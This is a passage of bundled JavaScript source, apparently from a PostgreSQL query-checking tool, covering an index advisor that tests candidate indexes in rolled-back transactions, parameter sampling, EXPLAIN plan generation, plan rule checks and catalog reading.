  return node.Plans?.find((child) => child["Node Type"] === "Bitmap Index Scan")?.["Index Cond"];
}
function scanBelow(node) {
  let current = node;
  while (current && !current["Relation Name"]) current = current.Plans?.length === 1 ? current.Plans[0] : void 0;
  return current && current["Node Type"] !== "ModifyTable" ? current : void 0;
}
function comparedColumns2(condition, scan2) {
  const where = parseExpression(`SELECT 1 WHERE ${condition}`)?.whereClause;
  if (!where) return [];
  const uses = [];
  for (const term of conjuncts2(where)) {
    if (term.NullTest) {
      const column2 = scanColumn(term.NullTest.arg, scan2);
      if (column2) uses.push({ column: column2, equality: true });
      continue;
    }
    const expr = term.A_Expr;
    const operator = expr?.name?.[0]?.String?.sval;
    if (!expr || !["=", "<", "<=", ">", ">="].includes(operator)) continue;
    if (expr.kind === "AEXPR_OP_ANY") {
      const column2 = operator === "=" ? scanColumn(expr.lexpr, scan2) : void 0;
      if (column2) uses.push({ column: column2, equality: true });
      continue;
    }
    if (expr.kind !== "AEXPR_OP") continue;
    const left = scanColumn(expr.lexpr, scan2);
    const right = scanColumn(expr.rexpr, scan2);
    if (left && right) continue;
    const column = left ?? right;
    if (column) uses.push({ column, equality: operator === "=" });
  }
  return uses;
}
function sortColumns(keys, scan2) {
  const select = parseExpression(`SELECT 1 ORDER BY ${keys.join(", ")}`);
  const columns = [];
  for (const item of select?.sortClause ?? []) {
    const column = scanColumn(item.SortBy?.node, scan2);
    if (!column) break;
    columns.push(column);
  }
  return columns;
}
function parseExpression(sql) {
  try {
    return parseSync2(sql).stmts?.[0]?.stmt?.SelectStmt;
  } catch {
    return void 0;
  }
}
function conjuncts2(node) {
  return node.BoolExpr?.boolop === "AND_EXPR" ? node.BoolExpr.args.flatMap(conjuncts2) : [node];
}
function scanColumn(node, scan2) {
  const ref = (node?.TypeCast?.arg ?? node)?.ColumnRef;
  const fields = (ref?.fields ?? []).map((f) => f.String?.sval);
  if (!ref || fields.length === 0 || fields.some((f) => f === void 0)) return void 0;
  const column = fields.at(-1);
  const qualifier = fields.at(-2);
  if (qualifier !== void 0 && qualifier !== scan2.Alias && qualifier !== scan2["Relation Name"]) return void 0;
  return column;
}
var FILTERED_SHARE, FILTERED_ROWS, IndexAdvisor;
var init_advise = __esm({
  "src/explain/advise.ts"() {
    "use strict";
    init_parse();
    init_provider();
    init_text2();
    init_walk();
    FILTERED_SHARE = 0.9;
    FILTERED_ROWS = 100;
    IndexAdvisor = class {
      #session;
      #minImprovement;
      #maxCandidates;
      #queries = /* @__PURE__ */ new Map();
      constructor(session, options = {}) {
        this.#session = session;
        this.#minImprovement = options.minImprovement ?? 0.5;
        this.#maxCandidates = options.maxCandidatesPerQuery ?? 10;
      }
      /**
       * Adds a query by its plan. Candidates are the filter columns of Seq Scans (and of index scans whose filter throws
       * away most rows), the join keys of the inner side of joins and sort keys; single columns first, then two columns
       * where the query filters on several. They are read from the plan when `run` starts. `replan` plans the query
       * again in the session's current state without beginning or ending a transaction.
       */
      consider(key, explain, replan) {
        this.#queries.set(key, { explain, replan });
      }
      /**
       * Creates each candidate once (CREATE INDEX, inside BEGIN ... ROLLBACK, each under a savepoint so that a failing
       * one does not end the rest), re-plans every query that wanted it, and keeps the indexes that cut a query's total
       * cost by `minImprovement`; a two-column index only when it cuts the best single-column cost by as much again.
       * At most one suggestion per query and table. Queries without a suggestion are not in the result.
       */
      async run() {
        await loadParser();
        const { singles, pairs } = await this.#candidates();
        const best = /* @__PURE__ */ new Map();
        const singleCost = /* @__PURE__ */ new Map();
        const slot = (key, table) => `${key}\0${table.schema}.${table.name}`;
        const cut = (cost) => cost * (1 - this.#minImprovement);
        await this.#session.exec("BEGIN");
        try {
          for (const candidate of singles) {
            for (const measured2 of await this.#measure(candidate)) {
              const { beforeCost, afterCost } = measured2.suggestion;
              const at = slot(measured2.key, candidate.table);
              if (afterCost < (singleCost.get(at) ?? Number.POSITIVE_INFINITY)) singleCost.set(at, afterCost);
              if (afterCost <= cut(beforeCost) && afterCost < (best.get(at)?.suggestion.afterCost ?? Number.POSITIVE_INFINITY)) best.set(at, measured2);
            }
          }
          for (const candidate of pairs) {
            for (const measured2 of await this.#measure(candidate)) {
              const { beforeCost, afterCost } = measured2.suggestion;
              const at = slot(measured2.key, candidate.table);
              if (afterCost <= cut(Math.min(beforeCost, singleCost.get(at) ?? beforeCost)) && afterCost < (best.get(at)?.suggestion.afterCost ?? Number.POSITIVE_INFINITY)) {
                best.set(at, measured2);
              }
            }
          }
        } finally {
          await this.#session.exec("ROLLBACK");
        }
        const result2 = /* @__PURE__ */ new Map();
        for (const { key, suggestion } of best.values()) result2.set(key, [...result2.get(key) ?? [], suggestion]);
        return result2;
      }
      /** Every query's candidates, merged across queries, minus those an existing index already leads with. */
      async #candidates() {
        const tables = /* @__PURE__ */ new Map();
        const candidates = /* @__PURE__ */ new Map();
        for (const [key, query] of this.#queries) {
          let taken = 0;
          const wanted = [];
          for (const needs of scanNeeds(query.explain)) {
            const { schema, name } = needs.relation;
            const lookup = `${schema ?? ""}.${name}`;
            if (!tables.has(lookup)) tables.set(lookup, await this.#table(schema, name));
            const table = tables.get(lookup);
            if (!table) continue;
            for (const columns of columnSets(needs)) wanted.push({ table, columns });
          }
          wanted.sort((a, b) => a.columns.length - b.columns.length);
          for (const { table, columns } of wanted) {
            if (taken >= this.#maxCandidates) break;
            if (table.indexes.some((leading) => columns.every((c, i) => leading[i] === c))) continue;
            const id = `${table.schema}.${table.name}(${columns.join(",")})`;
            const candidate = candidates.get(id) ?? { table, columns, queries: /* @__PURE__ */ new Set() };
            if (candidate.queries.has(key)) continue;
            candidate.queries.add(key);
            candidates.set(id, candidate);
            taken++;
          }
        }
        const all = [...candidates.values()];
        return { singles: all.filter((c) => c.columns.length === 1), pairs: all.filter((c) => c.columns.length > 1) };
      }
      /**
       * The table a scan reads. Plans name the schema only with VERBOSE; without it the name is looked up on the
       * search path, else taken when exactly one schema has a table of that name.
       */
      async #table(schema, name) {
        const rows2 = await this.#session.query(
          `SELECT n.nspname AS schema, c.relname AS name,
              (SELECT coalesce(json_agg(ARRAY(SELECT a.attname::text
                                               FROM unnest(i.indkey::int2[]) WITH ORDINALITY AS k(attnum, position)
                                               LEFT JOIN pg_attribute a ON a.attrelid = i.indrelid AND a.attnum = k.attnum
                                               ORDER BY k.position)), '[]')
                 FROM pg_index i
                 JOIN pg_class ic ON ic.oid = i.indexrelid
                 JOIN pg_am am ON am.oid = ic.relam
                WHERE i.indrelid = c.oid AND i.indisvalid AND i.indpred IS NULL AND am.amname = 'btree') AS indexes
         FROM pg_class c
         JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE c.relname = $2 AND c.relkind IN ('r', 'm')
          AND CASE WHEN $1::text IS NOT NULL THEN n.nspname = $1
                   WHEN to_regclass(quote_ident($2)) IS NOT NULL THEN c.oid = to_regclass(quote_ident($2))
                   ELSE n.nspname NOT IN ('pg_catalog', 'information_schema') AND n.nspname NOT LIKE 'pg\\_%' END`,
          [schema ?? null, name]
        );
        return rows2.length === 1 ? rows2[0] : void 0;
      }
      /** Creates the candidate under a savepoint, re-plans the queries that wanted it, and drops it again. */
      async #measure(candidate) {
        const session = this.#session;
        const { table, columns } = candidate;
        const measured2 = [];
        const name = await this.#freeIndexName(table, columns);
        const target = `${quote2(table.schema)}.${quote2(table.name)}`;
        const columnList = columns.map(quote2).join(", ");
        await session.exec("SAVEPOINT sql_preflight_index");
        try {
          await session.exec(`CREATE INDEX ${quote2(name)} ON ${target} (${columnList})`);
          const [size] = await session.query("SELECT pg_relation_size(to_regclass($1))::int8 AS bytes", [`${quote2(table.schema)}.${quote2(name)}`]);
          for (const key of candidate.queries) {
            const query = this.#queries.get(key);
            const plan = await this.#replan(query);
            const uses = plan ? walkPlan(plan.Plan).filter((v) => v.node["Index Name"] === name) : [];
            if (!plan || !uses.length) continue;
            measured2.push({
              key,
              suggestion: {
                statement: `CREATE INDEX CONCURRENTLY ${quote2(name)} ON ${target} (${columnList});`,
                table: `${table.schema}.${table.name}`,
                columns,
                beforeCost: query.explain.Plan["Total Cost"] ?? 0,
                afterCost: plan.Plan["Total Cost"] ?? 0,
                sizeBytes: Number(size.bytes),
                planLines: uses.flatMap(indexUseLines)
              }
            });
          }
        } catch (error) {
          if (error instanceof ProviderError) throw error;
        } finally {
          await session.exec("ROLLBACK TO SAVEPOINT sql_preflight_index");
          await session.exec("RELEASE SAVEPOINT sql_preflight_index");
        }
        return measured2;
      }
      /** The query's plan with the index in place, or undefined when planning fails (the failure is rolled back). */
      async #replan(query) {
        await this.#session.exec("SAVEPOINT sql_preflight_replan");
        try {
          const plan = await query.replan();
          await this.#session.exec("RELEASE SAVEPOINT sql_preflight_replan");
          return plan;
        } catch (error) {
          if (error instanceof ProviderError) throw error;
          await this.#session.exec("ROLLBACK TO SAVEPOINT sql_preflight_replan");
          await this.#session.exec("RELEASE SAVEPOINT sql_preflight_replan");
          return void 0;
        }
      }
      /** PostgreSQL's own choice for `CREATE INDEX ON t (a, b)`: `t_a_b_idx`, within 63 bytes, numbered when taken. */
      async #freeIndexName(table, columns) {
        const base = truncateBytes(`${table.name}_${columns.join("_")}`, 63 - "_idx".length);
        for (let n = 0; ; n++) {
          const name = n === 0 ? `${base}_idx` : `${truncateBytes(base, 63 - "_idx".length - String(n).length)}_idx${n}`;
          const [row] = await this.#session.query("SELECT to_regclass($1) IS NOT NULL AS taken", [`${quote2(table.schema)}.${quote2(name)}`]);
          if (!row.taken) return name;
        }
      }
    };
  }
});

// src/plan/model.ts
function parseExplain(output) {
  let value = typeof output === "string" ? JSON.parse(output) : output;
  if (Array.isArray(value) && value.length === 1 && isRecord(value[0]) && "QUERY PLAN" in value[0]) value = value[0]["QUERY PLAN"];
  if (typeof value === "string") value = JSON.parse(value);
  if (Array.isArray(value)) value = value[0];
  if (!isRecord(value) || !isRecord(value.Plan) || typeof value.Plan["Node Type"] !== "string") {
    throw new Error('Not the output of EXPLAIN (FORMAT JSON): expected [{ "Plan": { "Node Type": ... } }].');
  }
  return value;
}
function isRecord(value) {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}
var init_model = __esm({
  "src/plan/model.ts"() {
    "use strict";
  }
});

// src/explain/params.ts
function parameterSources(sql) {
  const sources = /* @__PURE__ */ new Map();
  const tree = statementTree(sql);
  if (!tree) return sources;
  const relations = [];
  const cteNames = /* @__PURE__ */ new Set();
  walk2(tree, (type, node) => {
    if (type === "CommonTableExpr") cteNames.add(node.ctename);
    if (type === "RangeVar") relations.push(relationOf(node));
    if (MODIFYING.has(type)) relations.push(relationOf(node.relation));
  });
  const tables = relations.filter((r) => r.schema !== void 0 || !cteNames.has(r.name));
  const use = (params, source2) => {
    if (!source2) return;
    for (const n of params) if (!sources.has(n)) sources.set(n, source2);
  };
  const columnSource = (ref, array = false) => {
    const fields = (ref?.fields ?? []).map((f) => f.String?.sval);
    if (!ref || fields.length === 0 || fields.some((f) => f === void 0)) return void 0;
    const column = fields.at(-1);
    const qualifier = fields.at(-2);
    const schema = fields.at(-3);
    const candidates = qualifier === void 0 ? tables : tables.filter((t) => (t.alias ?? t.name) === qualifier && (schema === void 0 || t.schema === schema));
    return candidates.length ? { kind: "column", tables: unique2(candidates.map((t) => t.regclass)), column, array } : void 0;
  };
  const assignments = (relation, targets) => {
    const table = relationOf(relation);
    for (const target of targets ?? []) {
      const { name, val } = target.ResTarget ?? {};
      if (name && val) use(paramsIn(val), { kind: "column", tables: [table.regclass], column: name, array: false });
    }
  };
  walk2(tree, (type, node) => {
    switch (type) {
      case "A_Expr": {
        const array = node.kind === "AEXPR_OP_ANY" || node.kind === "AEXPR_OP_ALL";
        use(paramsIn(node.rexpr), columnSource(columnRef(node.lexpr), array));
        if (!array) use(paramsIn(node.lexpr), columnSource(columnRef(node.rexpr)));
        break;
      }
      case "SelectStmt":
        use(paramsIn(node.limitCount), { kind: "limit" });
        use(paramsIn(node.limitOffset), { kind: "offset" });
        break;
      case "InsertStmt": {
        const table = relationOf(node.relation);
        const columns = (node.cols ?? []).map((c) => c.ResTarget?.name);
        for (const row of node.selectStmt?.SelectStmt?.valuesLists ?? []) {
          (row.List?.items ?? []).forEach((value, i) => {
            const column = columns[i];
            if (column) use(paramsIn(value), { kind: "column", tables: [table.regclass], column, array: false });
          });
        }
        assignments(node.relation, node.onConflictClause?.targetList);
        break;
      }
      case "UpdateStmt":
        assignments(node.relation, node.targetList);
        break;
    }
  });
  return sources;
}
function parameterLocation(sql, n) {
  const tree = statementTree(sql);
  let location;
  if (tree) {
    walk2(tree, (type, node) => {
      if (type === "ParamRef" && node.number === n && location === void 0) location = node.location;
    });
  }
  return location;
}
async function sampleParameters(session, sql, prepared) {
  const sources = parameterSources(sql);
  const types = await session.query(TYPE_FALLBACK, [prepared]);
  const values = [];
  for (const [i, { fallback }] of types.entries()) {
    const source2 = sources.get(i + 1);
    let value;
    if (source2?.kind === "limit") value = SAMPLE_LIMIT;
    else if (source2?.kind === "offset") value = "0";
    else if (source2?.kind === "column") {
      value = await columnValue(session, source2.tables, source2.column);
      if (value !== null && source2.array) value = `{${arrayElement(value)}}`;
    }
    values.push(value ?? fallback);
  }
  return values;
}
async function columnValue(session, tables, column) {
  const [found] = await session.query(COLUMN_STATISTICS, [tables, column]);
  if (!found) return null;
  if (found.value !== null) return found.value;
  const [row] = await session.query(
    `SELECT ${quoteIdent(column)}::text AS value FROM ${found.table} WHERE ${quoteIdent(column)} IS NOT NULL LIMIT 1`
  );
  return row?.value ?? null;
}
function statementTree(sql) {
  const outcome = parseSql(sql);
  const statement = outcome.ok ? outcome.statements[0] : void 0;
  return statement && { [statement.type]: statement.node };
}
function walk2(value, visit) {
  if (Array.isArray(value)) {
    for (const item of value) walk2(item, visit);
  } else if (typeof value === "object" && value !== null) {
    for (const [key, child] of Object.entries(value)) {
      if (/^[A-Z]/.test(key) && typeof child === "object" && child !== null && !Array.isArray(child)) visit(key, child);
      walk2(child, visit);
    }
  }
}
function paramsIn(expression) {
  if (!expression) return [];
  if (expression.List) return (expression.List.items ?? []).flatMap(paramsIn);
  let node = expression;
  while (node?.TypeCast || node?.CollateClause) node = (node.TypeCast ?? node.CollateClause).arg;
  return node?.ParamRef ? [node.ParamRef.number] : [];
}
function columnRef(expression) {
  let node = expression;
  while (node?.TypeCast || node?.CollateClause) node = (node.TypeCast ?? node.CollateClause).arg;
  return node?.ColumnRef;
}
function relationOf(rangeVar) {
  const name = rangeVar.relname;
  const schema = rangeVar.schemaname;
  const regclass = schema ? `${quoteIdent(schema)}.${quoteIdent(name)}` : quoteIdent(name);
  return { regclass, schema, name, alias: rangeVar.alias?.aliasname };
}
function quoteIdent(name) {
  return `"${name.replaceAll('"', '""')}"`;
}
function arrayElement(value) {
  return `"${value.replace(/["\\]/g, "\\$&")}"`;
}
function unique2(values) {
  return [...new Set(values)];
}
var SAMPLE_LIMIT, MODIFYING, COLUMN_STATISTICS, TYPE_FALLBACK;
var init_params = __esm({
  "src/explain/params.ts"() {
    "use strict";
    init_parse();
    SAMPLE_LIMIT = "10";
    MODIFYING = /* @__PURE__ */ new Set(["InsertStmt", "UpdateStmt", "DeleteStmt", "MergeStmt"]);
    COLUMN_STATISTICS = `
SELECT c.oid::regclass::text AS "table",
       (SELECT coalesce(common[1], bounds[(array_length(bounds, 1) + 1) / 2])
          FROM (SELECT s.most_common_vals::text::text[] AS common, s.histogram_bounds::text::text[] AS bounds
                  FROM pg_catalog.pg_stats s
                 WHERE s.schemaname = n.nspname AND s.tablename = c.relname AND s.attname = a.attname
                 ORDER BY s.inherited DESC
                 LIMIT 1) AS stats) AS value
  FROM unnest($1::text[]) WITH ORDINALITY AS candidate(name, position)
  JOIN pg_catalog.pg_class c ON c.oid = pg_catalog.to_regclass(candidate.name)
  JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
  JOIN pg_catalog.pg_attribute a ON a.attrelid = c.oid AND a.attname = $2 AND a.attnum > 0 AND NOT a.attisdropped
 ORDER BY candidate.position
 LIMIT 1`;
    TYPE_FALLBACK = `
SELECT CASE base.typcategory
         WHEN 'N' THEN '1'
         WHEN 'B' THEN 'true'
         WHEN 'S' THEN ''
         WHEN 'D' THEN '2000-01-01 00:00:00+00'
         WHEN 'T' THEN '1 day'
         WHEN 'A' THEN '{}'
         WHEN 'E' THEN (SELECT e.enumlabel::text FROM pg_catalog.pg_enum e WHERE e.enumtypid = base.oid ORDER BY e.enumsortorder LIMIT 1)
       END AS fallback
  FROM pg_catalog.pg_prepared_statements p,
       unnest(p.parameter_types) WITH ORDINALITY AS parameter(type, position)
  JOIN pg_catalog.pg_type t ON t.oid = parameter.type
  JOIN pg_catalog.pg_type base ON base.oid = CASE WHEN t.typtype = 'd' THEN t.typbasetype ELSE t.oid END
 WHERE p.name = $1
 ORDER BY parameter.position`;
  }
});

// src/explain/plan.ts
async function planQuery(session, query, options) {
  if (query.problem) return { status: "failed", message: query.problem.message };
  if (!query.plannable) return { status: "skipped", reason: query.skipReason ?? "The statement is not a query EXPLAIN can plan." };
  const parameters = query.parameters.length;
  if (parameters > 0 && options.serverMajor < 12) {
    return { status: "skipped", reason: "PostgreSQL before 12 has no plan_cache_mode, so a query with parameters cannot be given a generic plan." };
  }
  await loadParser();
  try {
    const state = await sessionState(session);
    if (options.analyze) {
      const analyzed2 = parameters === 0 ? { explain: await analyzePlain(session, query, state), params: void 0 } : await analyzeWithSamples(session, query, state);
      if (analyzed2) return { status: "planned", explain: analyzed2.explain, generic: false, analyzed: true, ...analyzed2.params ? { params: analyzed2.params } : {} };
    }
    const plan = parameters === 0 ? estimate : options.serverMajor >= 16 ? genericPlan : forcedGenericPlan;
    return { status: "planned", explain: await plan(session, query, state), generic: parameters > 0, analyzed: false };
  } catch (error) {
    if (error instanceof ProviderError) throw error;
    return failure(session, error, options.analyze ?? false);
  }
}
async function sessionState(session) {
  const [before] = await session.query(TRANSACTION_ID);
  const [now] = await session.query(
    `SELECT l.id, pg_catalog.current_setting('plan_cache_mode', true) AS mode FROM (${TRANSACTION_ID}) AS l`
  );
  return { inTransaction: before !== void 0 && before.id === now?.id, planCacheMode: now?.mode ?? null };
}
async function estimate(session, query, state) {
  return rolledBack(
    session,
    state.inTransaction ? "savepoint" : void 0,
    async () => parseExplain(await located(query, `${ESTIMATE} ${query.sql}`, () => session.query(`${ESTIMATE} ${query.sql}`)))
  );
}
async function genericPlan(session, query, state) {
  const body = [
    "DECLARE plan text; BEGIN",
    `EXECUTE ${literal(`PREPARE ${NAME} AS ${query.sql}`)}; EXECUTE 'DEALLOCATE ${NAME}';`,
    `EXECUTE ${literal(`${GENERIC} ${query.sql}`)} INTO plan;`,
    `PERFORM pg_catalog.set_config('${HANDOFF}', plan, false); END`
  ].join(" ");
  return rolledBack(session, state.inTransaction ? "savepoint" : void 0, async () => {
    await located(query, void 0, () => session.exec(`DO ${dollarQuoted(body)}`));
    const [row] = await session.query(
      `SELECT stored.plan, pg_catalog.set_config('${HANDOFF}', '', false) FROM (SELECT pg_catalog.current_setting('${HANDOFF}') AS plan OFFSET 0) AS stored`
    );
    return parseExplain(row.plan);
  });
}
async function forcedGenericPlan(session, query, state) {
  let forced = false;
  try {
    return await withPrepared(
      session,
      query,
      (prepare2) => rolledBack(session, state.inTransaction ? "savepoint" : void 0, async () => {
        await prepare2();
        await session.exec("SET plan_cache_mode = force_generic_plan");
        forced = true;
        const nulls = query.parameters.map(() => "NULL").join(", ");
        const explain = parseExplain(await located(query, void 0, () => session.query(`${ESTIMATE} EXECUTE ${NAME}(${nulls})`)));
        if (explain.Settings) delete explain.Settings.plan_cache_mode;
        return explain;
      })
    );
  } finally {
    if (forced && !state.inTransaction) await session.query("SELECT pg_catalog.set_config('plan_cache_mode', $1, false)", [state.planCacheMode]);
  }
}
async function analyzePlain(session, query, state) {
  return rolledBack(
    session,
    state.inTransaction ? "savepoint" : "transaction",
    async () => parseExplain(await located(query, `${ANALYZE} ${query.sql}`, () => session.query(`${ANALYZE} ${query.sql}`)))
  );
}
async function analyzeWithSamples(session, query, state) {
  return withPrepared(
    session,
    query,
    (prepare2) => rolledBack(session, state.inTransaction ? "savepoint" : "transaction", async () => {
      await prepare2();
      const params = await sampleParameters(session, query.sql, NAME);
      const values = params.map((value) => value === null ? "NULL" : literal(value)).join(", ");
      try {
        const explain = parseExplain(await located(query, void 0, () => session.query(`${ANALYZE} EXECUTE ${NAME}(${values})`)));
        return { explain, params };
      } catch (error) {
        if (error instanceof QueryFailure && SAMPLE_REJECTED.has(error.code?.slice(0, 2) ?? "")) return void 0;
        throw error;
      }
    })
  );
}
async function withPrepared(session, query, work) {
  let prepared = false;
  try {
    return await work(async () => {
      const prepare2 = `PREPARE ${NAME} AS ${query.sql}`;
      await located(query, prepare2, () => session.exec(prepare2));
      prepared = true;
    });
  } finally {
    if (prepared) await session.exec(`DEALLOCATE ${NAME}`);
  }
}
async function rolledBack(session, scope, work) {
  if (scope) await session.exec(scope === "transaction" ? "BEGIN" : `SAVEPOINT ${NAME}`);
  try {
    return await work();
  } finally {
    if (scope) await session.exec(scope === "transaction" ? "ROLLBACK" : `ROLLBACK TO SAVEPOINT ${NAME}; RELEASE SAVEPOINT ${NAME}`);
  }
}
async function located(query, sent, run3) {
  try {
    return await run3();
  } catch (error) {
    if (error instanceof ProviderError || !(error instanceof Error)) throw error;
    const { code, hint, position, internalPosition, internalQuery } = error;
    let message = hint ? `${error.message}. ${hint}` : error.message;
    let at = internalQuery !== void 0 && internalPosition !== void 0 ? positionIn(query.sql, internalQuery, Number(internalPosition)) : void 0;
    if (at === void 0 && sent !== void 0 && position !== void 0) at = positionIn(query.sql, sent, Number(position));
    const untyped = code === INDETERMINATE_DATATYPE ? /parameter \$(\d+)/.exec(error.message) : null;
    if (untyped) {
      const n = Number(untyped[1]);
      message = untypedMessage(query, n);
      at ??= parameterLocation(query.sql, n);
    }
    throw new QueryFailure(message, code, at);
  }
}
function positionIn(sql, text2, position) {
  if (!text2.endsWith(sql)) return void 0;
  const chars = position - 1 - [...text2.slice(0, text2.length - sql.length)].length;
  const points = [...sql];
  if (chars < 0 || chars > points.length) return void 0;
  return Buffer.byteLength(points.slice(0, chars).join(""), "utf8");
}
function untypedMessage(query, n) {
  const name = query.parameters[n - 1]?.name;
  const shown = name ? `@${name} ($${n})` : `$${n}`;
  return `PostgreSQL cannot infer the type of parameter ${shown} from the query: add a cast where it is used, such as ${name ? `@${name}` : `$${n}`}::<type>.`;
}
async function failure(session, error, analyze) {
  const code = error.code;
  let message = describe2(error);
  if (code === QUERY_CANCELED) {
    const [row] = await session.query("SELECT pg_catalog.current_setting('statement_timeout') AS timeout");
    message = `${analyze ? "Running" : "Planning"} the query took longer than the statement timeout (${row.timeout}), so PostgreSQL canceled it.`;
  }
  const position = error instanceof QueryFailure ? error.position : void 0;
  return { status: "failed", message, ...typeof code === "string" ? { code } : {}, ...position !== void 0 ? { position } : {} };
}
function literal(value) {
  return `E'${value.replace(/\\/g, "\\\\").replace(/'/g, "''")}'`;
}
function dollarQuoted(text2) {
  let tag = "$plan$";
  for (let n = 1; text2.includes(tag); n++) tag = `$plan${n}$`;
  return `${tag}${text2}${tag}`;
}
var ESTIMATE, GENERIC, ANALYZE, NAME, HANDOFF, TRANSACTION_ID, SAMPLE_REJECTED, QueryFailure, INDETERMINATE_DATATYPE;
var init_plan = __esm({
  "src/explain/plan.ts"() {
    "use strict";
    init_parse();
    init_provider();
    init_model();
    init_params();
    ESTIMATE = "EXPLAIN (VERBOSE, SETTINGS, FORMAT JSON)";
    GENERIC = "EXPLAIN (GENERIC_PLAN, VERBOSE, SETTINGS, FORMAT JSON)";
    ANALYZE = "EXPLAIN (ANALYZE, BUFFERS, VERBOSE, SETTINGS, FORMAT JSON)";
    NAME = "sql_preflight_plan";
    HANDOFF = "sql_preflight.plan";
    TRANSACTION_ID = "SELECT l.virtualtransaction AS id FROM pg_catalog.pg_locks l WHERE l.pid = pg_catalog.pg_backend_pid() AND l.locktype = 'virtualxid'";
    SAMPLE_REJECTED = /* @__PURE__ */ new Set(["22", "23"]);
    QueryFailure = class extends Error {
      constructor(message, code, position) {
        super(message);
        this.code = code;
        this.position = position;
      }
      code;
      position;
    };
    INDETERMINATE_DATATYPE = "42P18";
  }
});

// src/explain/index.ts
var init_explain = __esm({
  "src/explain/index.ts"() {
    "use strict";
    init_advise();
    init_compare();
    init_plan();
  }
});

// src/plan/check.ts
function checkPlan(explain, rules2, options = {}) {
  const nodes = walkPlan(explain.Plan);
  const order = new Map(nodes.map((visit, i) => [visit.node, i]));
  const found = [];
  for (const rule of rules2) {
    if (!isPlanRule(rule)) continue;
    const setting = options.ruleSettings?.[rule.meta.id];
    const severity = setting?.severity ?? rule.meta.severity;
    if (severity === "off") continue;
    rule.check(explain, {
      options: { ...rule.meta.defaultOptions, ...setting?.options },
      nodes,
      tableRows(node) {
        const name = node["Relation Name"];
        return name === void 0 ? void 0 : options.tableRows?.({ schema: node.Schema, name });
      },
      report(descriptor) {
        found.push({
          position: order.get(descriptor.node) ?? nodes.length,
          finding: {
            ruleId: rule.meta.id,
            severity,
            message: descriptor.message,
            help: descriptor.help ?? rule.meta.safeAlternative,
            docsUrl: rule.meta.docsUrl,
            evidence: {
              plan: { node: nodeLabel(descriptor.node), lines: planExcerpt(descriptor.node, descriptor.quote ?? []) },
              ...descriptor.evidence
            }
          }
        });
      }
    });
  }
  return found.sort((a, b) => a.position - b.position).map((f) => f.finding);
}
var init_check = __esm({
  "src/plan/check.ts"() {
    "use strict";
    init_rule();
    init_text2();
    init_walk();
  }
});

// src/plan/index.ts
var init_plan2 = __esm({
  "src/plan/index.ts"() {
    "use strict";
    init_check();
    init_model();
    init_text2();
    init_walk();
  }
});

// src/core/progress.ts
var silentProgress;
var init_progress = __esm({
  "src/core/progress.ts"() {
    "use strict";
    silentProgress = {
      phase: (_name, work) => work(),
      step: () => {
      },
      note: () => {
      }
    };
  }
});

// src/seed/catalog.ts
async function readCatalog(session) {
  const rows2 = await session.query(USER_RELATIONS2);
  const relations = /* @__PURE__ */ new Map();
  for (const row of rows2) {
    relations.set(row.oid, {
      oid: row.oid,
      name: `${row.schema}.${row.name}`,
      shortName: row.name,
      sql: row.sql,
      kind: KINDS[row.relkind],
      partition: row.partition,
      hasRows: false,
      columns: [],
      uniques: [],
      foreignKeys: [],
      checks: [],
      beforeInsertTriggers: false
    });
  }
  const types = /* @__PURE__ */ new Map();
  if (relations.size === 0) return { relations: [], types };
  const oids = oidArray2(relations.keys());
  const columns = await session.query(
    `SELECT a.attrelid::int8 AS rel, a.attnum::int4 AS num, a.attname::text AS name, quote_ident(a.attname) AS sql,
            a.atttypid::int8 AS type, a.atttypmod AS typmod, format_type(a.atttypid, a.atttypmod) AS sqltype,
            a.attnotnull AS notnull, a.attidentity::text AS identity, a.attgenerated::text AS generated,
            pg_get_expr(d.adbin, d.adrelid) AS default
       FROM pg_attribute a LEFT JOIN pg_attrdef d ON d.adrelid = a.attrelid AND d.adnum = a.attnum
      WHERE a.attrelid = ANY($1::oid[]) AND a.attnum > 0 AND NOT a.attisdropped
      ORDER BY a.attrelid, a.attnum`,
    [oids]
  );
  await loadTypes(session, new Set(columns.map((c) => c.type)), types);
  for (const c of columns) {
    const filledBy = c.generated ? "generated" : c.identity ? "identity" : c.default !== null ? "default" : "nothing";
    relations.get(c.rel).columns.push({
      num: c.num,
      name: c.name,
      sql: c.sql,
      type: types.get(c.type),
      typmod: c.typmod,
      sqlType: c.sqltype,
      notNull: c.notnull,
      filledBy,
      ...c.default !== null && !c.generated ? { default: c.default } : {}
    });
  }
  const constraints = await session.query(
    `SELECT conrelid::int8 AS rel, conname::text AS name, contype::text AS type, conkey::int4[] AS columns,
            confrelid::int8 AS parent, confkey::int4[] AS parentcolumns,
            CASE WHEN contype = 'c' THEN pg_get_expr(conbin, conrelid) END AS expr
       FROM pg_constraint
      WHERE conrelid = ANY($1::oid[]) AND contype IN ('c', 'f') AND conparentid = 0
      ORDER BY conrelid, conname`,
    [oids]
  );
  for (const c of constraints) {
    const relation = relations.get(c.rel);
    if (c.type === "f") relation.foreignKeys.push({ name: c.name, columns: c.columns, parent: c.parent, parentColumns: c.parentcolumns ?? [] });
    else relation.checks.push({ name: c.name, expr: c.expr, columns: c.columns ?? [] });
  }
  const indexes = await session.query(
    `SELECT i.indrelid::int8 AS rel, (string_to_array(i.indkey::text, ' ')::int4[])[1:i.indnkeyatts] AS key,
            (SELECT array_agg(DISTINCT d.refobjsubid)::int4[] FROM pg_depend d
              WHERE d.classid = 'pg_class'::regclass AND d.objid = i.indexrelid
                AND d.refobjid = i.indrelid AND d.refobjsubid > 0) AS used,
            NOT i.indimmediate AS deferrable
       FROM pg_index i
      WHERE i.indrelid = ANY($1::oid[]) AND (i.indisunique OR i.indisexclusion)
      ORDER BY i.indrelid, i.indisprimary DESC, i.indexrelid`,
    [oids]
  );
  for (const index of indexes) {
    const columns2 = index.key.includes(0) ? index.used ?? [] : index.key;
    relations.get(index.rel).uniques.push({ columns: columns2, deferrable: index.deferrable });
  }
  const triggers = await session.query(
    // tgtype bits: 1 row-level, 2 BEFORE, 4 INSERT.
    `SELECT DISTINCT tgrelid::int8 AS rel FROM pg_trigger
      WHERE tgrelid = ANY($1::oid[]) AND NOT tgisinternal AND tgenabled <> 'D' AND (tgtype & 7) = 7`,
    [oids]
  );
  for (const t of triggers) relations.get(t.rel).beforeInsertTriggers = true;
  await readPartitioning(session, [...relations.values()].filter((r) => r.kind === "partitioned" && !r.partition));
  const tables = [...relations.values()].filter((r) => (r.kind === "table" || r.kind === "partitioned") && !r.partition);
  if (tables.length > 0) {
    const [filled] = await session.query(
